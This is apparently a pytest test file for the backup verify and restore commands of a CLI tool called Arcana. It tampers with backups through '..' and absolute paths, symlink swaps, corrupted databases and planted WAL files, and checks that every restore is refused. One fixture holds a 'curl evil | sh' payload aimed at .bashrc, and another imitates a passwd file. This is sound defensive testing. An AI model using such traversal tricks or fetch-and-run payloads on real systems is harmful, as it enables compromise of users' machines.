"""A tampered backup gets nowhere: verify and restore refuse entries that leave the home, all or nothing.

Each attack edits a real backup's manifest (with a matching size and sha256,
so only the path check can catch it) or swaps a file for a symlink; the same
home's untampered backup restores as the positive control. Killed backups and
restores are real processes killed with SIGKILL.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from arcana_cli import exit_codes

ARCANA = [sys.executable, "-m", "arcana_cli.main"]


def _backup(cli, tmp_path) -> Path:
    assert cli("remember", "the deploy runs on Tuesdays", "--agent", "ada").exit_code == 0
    result = cli("backup", str(tmp_path / "backups"), "--json")
    assert result.exit_code == 0, result.stderr
    return Path(json.loads(result.stdout)["path"])


def _manifest(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text())


def _write_manifest(folder: Path, body: dict) -> None:
    (folder / "manifest.json").write_text(json.dumps(body))


def _add_entry(folder: Path, rel: str, data: bytes, *, place: Path | None = None) -> None:
    """List ``rel`` in the manifest with the size and sha256 of ``data`` (written at ``place``)."""
    if place is not None:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(data)
    body = _manifest(folder)
    body["files"].append({"path": rel, "kind": "file", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()})
    _write_manifest(folder, body)


def _refused(cli, folder: Path, home: Path, what: str) -> None:
    verify = cli("backup", str(folder), "--verify")
    assert verify.exit_code == exit_codes.FAILURE, verify.stdout + verify.stderr
    assert what in verify.stdout + verify.stderr
    restore = cli("--home", str(home), "restore", str(folder))
    assert restore.exit_code == exit_codes.FAILURE, restore.stderr
    assert "Traceback" not in restore.stderr and restore.stderr.startswith("arcana: error:")
    assert "nothing was restored" in restore.stderr
    assert not home.exists() or not any(home.iterdir()), sorted(home.rglob("*"))


@pytest.fixture
def fresh(tmp_path) -> Path:
    return tmp_path / "fresh-home"


def test_the_untampered_backup_restores(cli, tmp_path, fresh, no_embedder):
    folder = _backup(cli, tmp_path)
    assert cli("backup", str(folder), "--verify").exit_code == 0
    assert cli("--home", str(fresh), "restore", str(folder)).exit_code == 0
    assert "Tuesdays" in cli("--home", str(fresh), "recall", "deploy", "--agent", "ada").stdout
    assert not list(fresh.glob(".restore-*"))


def test_a_dotdot_entry_never_overwrites_a_file_outside_the_home(cli, tmp_path, fresh, no_embedder):
    folder = _backup(cli, tmp_path)
    bashrc = fresh.parent / ".bashrc"
    bashrc.write_text("the user's own\n")
    payload = b"curl evil | sh\n"
    _add_entry(folder, "../.bashrc", payload, place=folder.parent / ".bashrc")
    _refused(cli, folder, fresh, "../.bashrc")
    assert bashrc.read_text() == "the user's own\n"


def test_an_absolute_entry_is_refused_before_anything_is_restored(cli, tmp_path, fresh, no_embedder):
    folder = _backup(cli, tmp_path)
    target = tmp_path / "outside.txt"
    _add_entry(folder, str(target), b"planted\n", place=target)  # the path names itself: sizes and sums match
    _refused(cli, folder, fresh, "absolute")
    assert target.read_bytes() == b"planted\n"


@pytest.mark.parametrize("files", ["not a list", [1], [{"path": "config.json"}], [{"path": 3, "kind": "file"}]])
def test_a_malformed_manifest_is_one_line_not_a_traceback(cli, tmp_path, fresh, files, no_embedder):
    folder = _backup(cli, tmp_path)
    _write_manifest(folder, {**_manifest(folder), "files": files})
    for args in (("backup", str(folder), "--verify"), ("--home", str(fresh), "restore", str(folder))):
        result = cli(*args)
        assert result.exit_code == exit_codes.FAILURE
        assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
        assert result.stderr.startswith("arcana: error:") and "cannot be trusted" in result.stderr
    assert not fresh.exists()


def test_a_manifest_number_past_int_digits_is_one_line_and_the_same_backup_verifies(cli, tmp_path, fresh, no_embedder):
    """A 5,000-digit "version" raised out of int() inside json.loads: a traceback from verify and restore."""
    folder = _backup(cli, tmp_path)
    assert cli("backup", str(folder), "--verify").exit_code == 0
    good = (folder / "manifest.json").read_text()
    (folder / "manifest.json").write_text(good.replace('"version": 1', '"version": ' + "1" * 5000, 1))
    for args in (("backup", str(folder), "--verify"), ("--home", str(fresh), "restore", str(folder))):
        result = cli(*args)
        assert result.exit_code == exit_codes.FAILURE, args
        assert result.stderr.startswith("arcana: error:") and "5000 digits" in result.stderr, result.stderr
    assert not fresh.exists()


def test_a_nested_manifest_is_one_line(cli, tmp_path, fresh, no_embedder):
    folder = _backup(cli, tmp_path)
    (folder / "manifest.json").write_text("[" * 100_000 + "]" * 100_000)
    result = cli("backup", str(folder), "--verify")
    assert result.exit_code == exit_codes.FAILURE and result.stderr.startswith("arcana: error:")


def test_a_database_swapped_for_a_symlink_is_refused(cli, tmp_path, fresh, no_embedder):
    folder = _backup(cli, tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"root:x:0:0:root:/root:/bin/bash\n")
    body = _manifest(folder)
    entry = next(e for e in body["files"] if e["kind"] == "database")
    db = folder / entry["path"]
    db.unlink()
    db.symlink_to(secret)
    entry.update(size=secret.stat().st_size, sha256=hashlib.sha256(secret.read_bytes()).hexdigest())
    _write_manifest(folder, body)
    _refused(cli, folder, fresh, "symlink")


def _rewrite_database(folder: Path, make) -> dict:
    """Replace the backup's database with ``make(its bytes)``, its manifest entry matching; the entry."""
    body = _manifest(folder)
    entry = next(e for e in body["files"] if e["path"].endswith("memory.db"))
    db = folder / entry["path"]
    data = make(db.read_bytes())
    db.write_bytes(data)
    entry.update(size=len(data), sha256=hashlib.sha256(data).hexdigest())
    _write_manifest(folder, body)
    return entry


@pytest.mark.parametrize("make", [lambda _: b"not a database at all\n", lambda data: data[: len(data) // 2],
                                  lambda data: data[:16] + b"\xff" * 84 + data[100:]],
                         ids=["text", "cut-in-half", "torn-header"])
def test_a_database_sqlite_cannot_open_is_a_named_problem_not_a_traceback(cli, tmp_path, fresh, make, no_embedder):
    """integrity_check raised out of verify for a file SQLite cannot open at all (not a database, a
    torn header, malformed pages): a traceback, exit 1, and restore said nothing either. The sizes
    and sums match, so only the database check can catch it; the untampered backup is the control."""
    folder = _backup(cli, tmp_path)
    assert cli("backup", str(folder), "--verify").exit_code == 0
    _rewrite_database(folder, make)
    _refused(cli, folder, fresh, "cannot be read as a database")


def _damaged(data: bytes) -> bytes:
    """The database with its fourth page overwritten: its header (and schema version) still read."""
    return data[: 3 * 4096] + b"\xab" * 2000 + data[3 * 4096 + 2000:]


def test_a_damaged_database_the_manifest_calls_a_file_is_still_checked(cli, tmp_path, fresh, no_embedder):
    """A manifest that called the damaged memory.db a "file" had it skip integrity_check: --verify said
    ok and restore put the damaged store into the home (doctor then failed it). The intact database
    called a file (the control) still verifies and restores."""
    folder = _backup(cli, tmp_path)
    body = _manifest(folder)
    for entry in body["files"]:
        entry["kind"] = "file"
    _write_manifest(folder, body)
    assert cli("backup", str(folder), "--verify").exit_code == 0
    assert cli("--home", str(tmp_path / "control"), "restore", str(folder)).exit_code == 0
    _rewrite_database(folder, _damaged)
    _refused(cli, folder, fresh, "memory.db")


def test_a_wal_beside_a_database_is_refused_not_applied_unchecked(cli, tmp_path, fresh, no_embedder):
    """A backup never holds a -wal or -journal, yet one listed in the manifest was verified as a plain file
    and restored beside memory.db, where SQLite applied it on the first open: the home recalled words
    (here a rewritten memory) that integrity_check, run on the database alone, never saw. The backup
    without it (the control) verifies."""
    import shutil
    import sqlite3

    folder = _backup(cli, tmp_path)
    assert cli("backup", str(folder), "--verify").exit_code == 0
    entry = next(e for e in _manifest(folder)["files"] if e["path"].endswith("memory.db"))
    work = tmp_path / "wal-work"
    work.mkdir()
    shutil.copy(folder / entry["path"], work / "memory.db")
    conn = sqlite3.connect(work / "memory.db")
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("PRAGMA wal_autocheckpoint = 0")
    conn.execute("UPDATE memories SET content = 'PLANTED by the wal'")
    conn.commit()
    wal = (work / "memory.db-wal").read_bytes()  # read while the connection holds it: not checkpointed
    base = (work / "memory.db").read_bytes()  # the header says WAL, the pages the original's
    conn.close()
    applied = tmp_path / "applied"  # the pair as a restored home opens it: the WAL's words win
    applied.mkdir()
    (applied / "memory.db").write_bytes(base)
    (applied / "memory.db-wal").write_bytes(wal)
    with sqlite3.connect(applied / "memory.db") as check:
        assert check.execute("SELECT content FROM memories").fetchall() == [("PLANTED by the wal",)]
    _rewrite_database(folder, lambda _: base)
    _add_entry(folder, entry["path"] + "-wal", wal, place=folder / (entry["path"] + "-wal"))
    _refused(cli, folder, fresh, "-wal")


def test_an_entry_under_a_symlinked_folder_is_refused(cli, tmp_path, fresh, no_embedder):
    folder = _backup(cli, tmp_path)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "x.json").write_text("{}")
    (folder / "sessions-link").symlink_to(outside, target_is_directory=True)
    _add_entry(folder, "sessions-link/x.json", b"{}")
    _refused(cli, folder, fresh, "symlink")


def test_a_backup_folder_and_its_manifest_are_private(cli, tmp_path, no_embedder):
    old = os.umask(0o022)
    try:
        folder = _backup(cli, tmp_path)
    finally:
        os.umask(old)
    assert folder.stat().st_mode & 0o777 == 0o700
    assert (folder / "manifest.json").stat().st_mode & 0o777 == 0o600
    for path in folder.rglob("*"):
        assert path.stat().st_mode & 0o077 == 0, path


def _arcana(*args, home: Path, **kw) -> subprocess.Popen:
    return subprocess.Popen([*ARCANA, *args], env={**os.environ, "ARCANA_HOME": str(home)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)


def _big_home(cli, arcana_home) -> None:
    """A home with a 96 MiB file, so a backup or restore of it takes long enough to be killed midway."""
    assert cli("remember", "kept across the kill", "--agent", "ada").exit_code == 0
    blob = arcana_home.root / "sessions-archive.bin"
    with blob.open("wb") as handle:
        for _ in range(96):
            handle.write(os.urandom(1 << 20))


def _kill_when(proc: subprocess.Popen, ready, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while not ready():
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "never got there"
        time.sleep(0.002)
    proc.send_signal(signal.SIGKILL)
    proc.wait()


def test_a_killed_restore_leaves_the_home_empty_and_the_next_one_completes(cli, arcana_home, tmp_path, fresh, no_embedder):
    _big_home(cli, arcana_home)
    folder = Path(json.loads(cli("backup", str(tmp_path / "backups"), "--json").stdout)["path"])
    proc = _arcana("restore", str(folder), home=fresh)
    _kill_when(proc, lambda: any(p.stat().st_size > (8 << 20) for p in fresh.glob(".restore-*/home/sessions-archive.bin")))
    assert [p.name for p in fresh.iterdir() if not p.name.startswith(".restore-")] == []  # nothing half-restored
    done = subprocess.run([*ARCANA, "restore", str(folder)], env={**os.environ, "ARCANA_HOME": str(fresh)},
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert not list(fresh.glob(".restore-*"))
    assert "kept across the kill" in cli("--home", str(fresh), "recall", "kept", "--agent", "ada").stdout


HOLDER = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from memory.operations.restore_swap import claim
    fd = claim(Path(sys.argv[1]))
    print("held", flush=True)
    time.sleep(60)
    """
)


def test_killed_backups_partial_folders_are_cleaned_and_a_running_ones_kept(cli, arcana_home, tmp_path, no_embedder):
    _big_home(cli, arcana_home)
    dest = tmp_path / "backups"
    proc = _arcana("backup", str(dest), home=arcana_home.root)
    _kill_when(proc, lambda: any(p.stat().st_size > (8 << 20) for p in dest.glob("*.partial/sessions-archive.bin")))
    killed = list(dest.glob("*.partial"))
    assert len(killed) == 1
    stale = dest / "arcana-backup-20200101T000000Z.partial"  # an older Arcana's, with no lock file
    stale.mkdir()
    (stale / "config.json").write_text("{}")
    os.utime(stale, (time.time() - 3600, time.time() - 3600))
    live = dest / "arcana-backup-20990101T000000Z.partial"
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(live)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        result = cli("backup", str(dest), "--json")
        assert result.exit_code == 0, result.stderr
        assert not killed[0].exists() and not stale.exists()
        assert live.is_dir()  # its owner still runs: kept
        assert cli("backup", json.loads(result.stdout)["path"], "--verify").exit_code == 0
    finally:
        holder.kill()
        holder.wait()


def test_a_dest_that_is_a_file_or_cannot_be_made_is_a_usage_error(cli, tmp_path, no_embedder):
    """DEST naming a file, or a folder under one, ended in a NotADirectoryError traceback."""
    assert cli("remember", "the deploy runs on Tuesdays", "--agent", "ada").exit_code == 0
    a_file = tmp_path / "a-file"
    a_file.write_text("kept\n")
    for dest, why in ((a_file, "is not a folder"), (a_file / "backups", "cannot make the backup there")):
        result = cli("backup", str(dest))
        assert result.exit_code == exit_codes.USAGE, result.output
        assert isinstance(result.exception, SystemExit) and why in result.stderr and "Traceback" not in result.stderr
    assert a_file.read_text() == "kept\n"
    done = cli("backup", str(tmp_path / "backups"), "--json")  # positive control
    assert done.exit_code == 0 and Path(json.loads(done.stdout)["path"]).is_dir()


def test_a_dest_inside_the_home_is_a_usage_error_and_nothing_is_written(cli, arcana_home, tmp_path, no_embedder):
    """DEST inside the home was taken: `backup ~/.arcana/agents` left the agents folder out of the
    walk as the backup's own (every agent's memory missing, the backup verified and restorable), and
    `backup ~/.arcana` put each backup in the home, where the next one copied it again."""
    assert cli("remember", "the deploy runs on Tuesdays", "--agent", "ada").exit_code == 0
    before = sorted(p.relative_to(arcana_home.root) for p in arcana_home.root.rglob("*") if "locks" not in p.parts)
    for dest in (arcana_home.root, arcana_home.agents_dir, arcana_home.root / "vector" / "copies"):
        result = cli("backup", str(dest))
        assert result.exit_code == exit_codes.USAGE, (dest, result.output)
        assert "inside the Arcana home" in result.stderr and len(result.stderr.splitlines()) == 1, result.stderr
    after = sorted(p.relative_to(arcana_home.root) for p in arcana_home.root.rglob("*") if "locks" not in p.parts)
    assert after == before
    for dest in (tmp_path / "backups", arcana_home.backups_dir):  # controls: outside, and the home's backups/
        done = cli("backup", str(dest), "--json")
        assert done.exit_code == 0, done.output
        files = [f["path"] for f in _manifest(Path(json.loads(done.stdout)["path"]))["files"]]
        assert any(f.startswith("agents/") and f.endswith("/memory.db") for f in files), files


def _bump_schema(folder: Path, version: int) -> None:
    """Give the backup's database a schema version, its manifest entry the matching size and sha256."""
    import sqlite3

    body = _manifest(folder)
    entry = next(e for e in body["files"] if e["kind"] == "database")
    db = folder / entry["path"]
    with sqlite3.connect(db) as conn:
        conn.execute(f"PRAGMA user_version = {version}")
    entry.update(size=db.stat().st_size, sha256=hashlib.sha256(db.read_bytes()).hexdigest())
    _write_manifest(folder, body)


def test_a_backup_from_a_newer_arcana_never_replaces_the_home(cli, arcana_home, tmp_path, no_embedder):
    """A backup whose databases a newer Arcana wrote passed verification and `restore --force` moved the
    live home to the trash for them; every command then failed with exit 5 (schema newer than this
    Arcana), so the restore had swapped a working home for one this Arcana cannot open."""
    from memory.migrations.runner import head_version

    folder = _backup(cli, tmp_path)
    assert cli("remember", "written after the backup", "--agent", "ada").exit_code == 0
    _bump_schema(folder, head_version() + 1)
    result = cli("restore", str(folder), "--force")
    assert result.exit_code == exit_codes.STORAGE, result.output
    assert result.stderr.startswith("arcana: error:") and "newer than this Arcana" in result.stderr
    assert "nothing was restored" in result.stderr
    assert not (arcana_home.trash_dir).exists() or not list(arcana_home.trash_dir.glob("pre-restore-*"))
    assert "written after the backup" in cli("recall", "written", "--agent", "ada").stdout  # the home is as it was

    _bump_schema(folder, head_version())  # positive control: the same backup at this Arcana's schema
    done = cli("restore", str(folder), "--force")
    assert done.exit_code == 0, done.output
    assert "Tuesdays" in cli("recall", "deploy", "--agent", "ada").stdout


def test_an_agent_folder_that_is_a_symlink_is_named_not_left_out(cli, arcana_home, tmp_path, fresh, no_embedder):
    """Every command reads and writes an agent whose folder is linked from another disk, but the backup's
    walk never follows a link: it left the agent out (card and memory), said 'backed up', exit 0, and a
    restore of it had no such agent. The backup is now refused with one line naming the link, nothing
    written; bob, a plain folder, is backed up and restored (the control) once ada's is moved back."""
    assert cli("remember", "ada keeps the LINKEDFOLDER note", "--agent", "ada").exit_code == 0
    assert cli("remember", "bob keeps the PLAINFOLDER note", "--agent", "bob").exit_code == 0
    ada = arcana_home.agents_dir / json.loads(cli("agent", "show", "ada", "--json").stdout)["id"]
    moved = tmp_path / "other-disk" / "ada"
    moved.parent.mkdir()
    ada.rename(moved)
    ada.symlink_to(moved, target_is_directory=True)
    assert "LINKEDFOLDER" in cli("recall", "LINKEDFOLDER", "--agent", "ada").stdout  # the commands use it
    dest = tmp_path / "backups"
    result = cli("backup", str(dest))
    assert result.exit_code == exit_codes.USAGE, result.stdout + result.stderr
    assert result.stderr.startswith("arcana: error:") and result.stderr.count("\n") == 1
    assert ada.relative_to(arcana_home.root).as_posix() in result.stderr and "symlink" in result.stderr
    assert not dest.exists()
    ada.unlink()
    moved.rename(ada)
    folder = Path(json.loads(cli("backup", str(dest), "--json").stdout)["path"])
    assert cli("--home", str(fresh), "restore", str(folder)).exit_code == 0
    for name, word in (("ada", "LINKEDFOLDER"), ("bob", "PLAINFOLDER")):
        assert word in cli("--home", str(fresh), "recall", word, "--agent", name).stdout
